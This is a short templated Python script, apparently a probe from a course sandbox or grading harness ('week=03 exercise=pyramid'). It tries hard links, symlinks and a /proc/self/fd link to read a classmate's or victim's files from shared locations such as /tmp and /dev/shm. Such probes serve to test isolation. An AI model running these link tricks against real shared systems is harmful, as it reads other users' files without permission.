"""Makes hard and symbolic links to others' files where it can read them."""
# attack: week=03 exercise=pyramid
import os

for target in ("/tmp/@MARK@", "@FOLDER@/linked", "/dev/shm/@MARK@", "./@MARK@"):
    for act in (
        lambda: os.link("@CLASSMATE@", target),
        lambda: os.symlink("@CLASSMATE@", target),
        lambda: os.link("/proc/self/fd/3", target),
        lambda: os.link("@VICTIM@", target, follow_symlinks=False),
    ):
        try:
            act()
            print(open(target).read())
        except OSError as error:
            print("refused", error)
